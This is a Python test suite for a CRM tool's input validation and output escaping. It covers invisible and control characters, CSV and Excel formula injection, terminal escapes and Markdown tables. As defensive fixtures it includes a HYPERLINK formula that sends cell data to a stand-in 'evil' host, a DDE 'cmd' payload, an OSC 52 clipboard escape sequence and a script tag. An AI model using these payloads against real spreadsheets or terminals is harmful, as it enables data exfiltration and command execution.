"""The rules for hostile text, function by function: what a text field refuses (and says
to remove), how names compare, and how every output carries what it may not hold raw —
formulas in sheets, controls in terminals, pipes and HTML in Markdown."""
from __future__ import annotations

import csv
import io
import unicodedata
from decimal import Decimal

import pytest

from crm.app.audit import seen_as
from crm.domain.values import name_key, project_id
from crm.text.errors import InvalidValue
from crm.text.messages import error_message
from crm.text.parsing import (
    COMBINING_EXPECTED,
    CONTROL_EXPECTED,
    INVISIBLE_EXPECTED,
    LINE_BREAK_EXPECTED,
    SEPARATOR_EXPECTED,
    multiline,
    parse_name,
    parse_setting,
    parse_text,
    text_problem,
)
from crm.text.tables import grid, inert, markdown_text, revived, shown, to_csv
from tests.markdown_tables import unescaped_pipes

FORMATS = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u202e", "\u202a",
           "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"]
CONTROLS = ["\x00", "\x07", "\x1b", "\t", "\r", "\x0b", "\x7f", "\x85", "\x9b"]


@pytest.mark.parametrize("char", FORMATS)
def test_invisible_format_characters_are_refused_everywhere(char):
    for option in ("--investor", "--note", "--reason", "--owner"):
        with pytest.raises(InvalidValue) as e:
            parse_text(f"华锂{char}新材", option)
        assert e.value.params["option"] == option
        assert e.value.params["expected"] == INVISIBLE_EXPECTED
    with pytest.raises(InvalidValue, match="NAME"):
        parse_name(f"华锂{char}新材")


@pytest.mark.parametrize("char", CONTROLS)
def test_control_characters_are_refused_even_in_notes(char):
    for option in ("--investor", "--note", "--with", "NAME"):
        with pytest.raises(InvalidValue) as e:
            (parse_name if option == "NAME" else parse_text)(f"a{char}b", option)
        assert e.value.params["expected"] == CONTROL_EXPECTED


def test_only_notes_and_reasons_keep_line_breaks():
    for option in ("--note", "--reason", "note", "reason", "drop_reason", "备注", "项目进展\n情况",
                   "终止原因", "活动内容"):
        assert multiline(option), option
        assert parse_text("第一行\n第二行", option) == "第一行\n第二行"
    for option in ("--investor", "--with", "--parcel", "--owner", "--channel", "--region",
                   "--short", "investor", "participants", "投资方", "负责人", "参加人员"):
        assert not multiline(option), option
        with pytest.raises(InvalidValue) as e:
            parse_text("第一行\n第二行", option)
        assert e.value.params["expected"] == LINE_BREAK_EXPECTED
    with pytest.raises(InvalidValue) as e:
        parse_name("华锂\n新材")
    assert e.value.params["expected"] == LINE_BREAK_EXPECTED
    assert text_problem("a\u2028b") == LINE_BREAK_EXPECTED
    assert text_problem("a\u2029b", lines=True) == SEPARATOR_EXPECTED


def test_a_combining_mark_on_nothing_is_refused_but_an_accent_on_a_letter_is_not():
    for bad in ("\u0301abc", "ab \u0301c", "ab\n\u0301c", "ab\u3000\u20ddc"):
        assert text_problem(bad, lines=True) == COMBINING_EXPECTED, repr(bad)
    with pytest.raises(InvalidValue):
        parse_name(" \u0301Cafe")  # stripped first: the mark then leads
    assert parse_name("Cafe\u0301") == "Café"  # NFC
    assert parse_text("Cafe\u0301 Ñu", "--investor") == "Cafe\u0301 Ñu"
    assert parse_text("👍\ufe0f", "--note") == "👍\ufe0f"  # a variation selector on its emoji


def test_ordinary_text_passes_unchanged():
    for text in ("星河光伏", "Tesla Gigafactory", "=HYPERLINK(\"x\")", "-2+3", "@SUM(1)",
                 "a | b <b>", "合成\u3000新材料", "R&D 'x' \"y\"", "١٢٣", "ﬁ"):
        assert parse_text(text, "--investor") == text
        assert parse_name(text) == unicodedata.normalize("NFC", text)
    assert parse_text("  \t padded \n ", "--investor") == "padded"  # only around it


def test_the_error_is_one_line_naming_the_option_in_either_language():
    for value, option in (("x\x1b]52;c;aGk=\x07", "--investor"), ("a\u202eb", "--note"),
                          ("a\nb", "--owner"), ("\u0301a", "--channel")):
        with pytest.raises(InvalidValue) as e:
            parse_text(value, option)
        for lang in ("en", "zh"):
            line = error_message(e.value, lang)
            assert "\n" not in line and option in line
            assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in line), line
        assert "remove" in error_message(e.value, "en")
        assert "删除" in error_message(e.value, "zh")


def test_zone_settings_refuse_hostile_text_too():
    with pytest.raises(InvalidValue, match="zone sectors"):
        parse_setting("sectors", "新材料,新\u200b能源")
    with pytest.raises(InvalidValue, match="zone name"):
        parse_setting("name", "开发区\x1b[2J")
    assert parse_setting("sectors", "新材料,新能源") == ["新材料", "新能源"]


def test_name_keys_ignore_invisible_format_characters():
    assert name_key("华锂\u200b新材") == name_key("华锂新材") == name_key(" 华锂新材\u2060")
    assert name_key("Hua\u00adLi  New") == name_key("huali new")
    assert project_id("华锂\ufeff新材") == project_id("华锂新材")
    # names that never held a format character keep their key, and so their ids
    for name in ("星河光伏", "Tesla  Gigafactory", "ＡＢＣ新材料", "蓝海 医疗"):
        key = " ".join(unicodedata.normalize("NFKC", name).casefold().split())
        assert name_key(name) == key


def test_a_name_is_seen_alike_without_any_invisible_character():
    assert seen_as("华锂\u200b新材") == seen_as("华锂新材") == seen_as("华锂\u3164新材".replace(
        "\u3164", "\u034f"))
    assert seen_as("ＨＵＡ\u202e li") == seen_as("hua li")
    assert seen_as("华锂新材") != seen_as("华锂新材二期")


# -- sheets ----------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_written_inert_and_read_back(text):
    assert inert(text) == "'" + text
    assert revived(inert(text)) == text
    for harmless in ("星河光伏", "'quoted", "", "1-2", "'", "''=x"):
        assert inert(harmless) == harmless and revived(harmless) == harmless


def test_csv_output_quotes_formula_text_but_not_numbers():
    rows = [{"name": "=1+1", "amount": Decimal("-5"), "count": -3, "tags": ["-a", "b"],
             "flag": True, "plain": "星河"}]
    cells = list(csv.reader(io.StringIO(to_csv(rows))))[1]
    assert cells == ["'=1+1", "-5", "-3", "'-a; b", "true", "星河"]


def test_workbook_cells_are_never_formulas(tmp_path):
    from openpyxl import load_workbook

    from crm.text.report_files import workbook

    data = workbook([("s", ["h"] * 3, [[t, Decimal("-5"), "\x1b]52;c;aGk=\x07"] for t in HOSTILE])])
    path = tmp_path / "w.xlsx"
    path.write_bytes(data)
    sheet = load_workbook(path)["s"]
    rows = list(sheet.iter_rows(min_row=2))
    for text, (cell, number, control) in zip(HOSTILE, rows):
        assert cell.data_type == "s" and cell.quotePrefix and cell.value == text.replace("\r", "\n")
        assert number.data_type == "n" and number.value == -5
        assert control.value == "\\x1b]52;c;aGk=\\x07"  # what a workbook cannot hold, shown


# -- terminals and Markdown ------------------------------------------------------------------


def test_terminal_text_shows_controls_escaped_and_stays_on_one_line():
    assert shown("x\x1b]52;c;aGk=\x07y") == "x\\x1b]52;c;aGk=\\x07y"
    assert shown("a\nb\tc\rd") == "a↵b\\tc\\rd"
    assert shown("a\u202eb\u200bc\u2028") == "a\\u202eb\\u200bc\\u2028"
    assert shown("星河 光伏\u3000") == "星河 光伏\u3000"
    assert shown("\U000e0041") == "\\U000e0041"


def test_markdown_text_escapes_pipes_html_and_line_breaks():
    assert markdown_text("a|b") == "a\\|b"
    assert markdown_text("a\\|b") == "a\\\\\\|b"
    assert markdown_text("<script>x</script> & y") == "&lt;script&gt;x&lt;/script&gt; &amp; y"
    assert markdown_text("one\ntwo\x1b") == "one<br>two\\x1b"


def test_a_markdown_table_keeps_its_columns_whatever_the_cells_hold():
    nasty = ["a|b", "a\\|b", "x\\", "<b>|</b>", "one\ntwo", "\x1b[31m|", "|||", "\\\\|"]
    table = grid([[n, n] for n in nasty], ["h|1", "h2"], "markdown")
    lines = table.splitlines()
    assert len(lines) == len(nasty) + 2
    assert {unescaped_pipes(line) for line in lines} == {3}
    assert "<" not in table.replace("<br>", "") and "\x1b" not in table


def test_a_terminal_table_keeps_one_line_a_row():
    table = grid([["a\nb", "c\x07"], ["\u202eevil", "ok"]], ["h", "h"], "table")
    assert len(table.splitlines()) == 4
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in table.replace("\n", ""))
